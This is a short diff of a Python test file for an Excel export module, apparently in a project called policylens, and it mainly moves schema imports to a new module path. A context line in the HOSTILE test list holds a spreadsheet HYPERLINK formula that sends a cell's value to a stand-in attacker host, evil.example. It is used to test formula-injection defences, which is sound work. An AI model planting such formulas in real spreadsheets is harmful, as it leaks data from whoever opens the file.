@@ -16,8 +16,8 @@ pd = pytest.importorskip("pandas")
 from policylens import excel  # noqa: E402
 from policylens.errors import OutputError  # noqa: E402
 from policylens.excel import workbook  # noqa: E402
+from policylens.model.schema import TABLES, conform  # noqa: E402
 from policylens.pipeline import read_table_csv, table_to_csv_bytes  # noqa: E402
-from policylens.schema import TABLES, conform  # noqa: E402
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -495,7 +495,7 @@ def test_readme_and_review_when_nothing_is_pending(tmp_path):
 
 
 def test_empty_tables_give_a_valid_workbook(tmp_path):
-    from policylens.schema import empty_frame
+    from policylens.model.schema import empty_frame
 
     tables = {name: empty_frame(name) for name in TABLES}
     tables["documents"] = sample_tables(hostile=False)["documents"].assign(issued=pd.NaT)
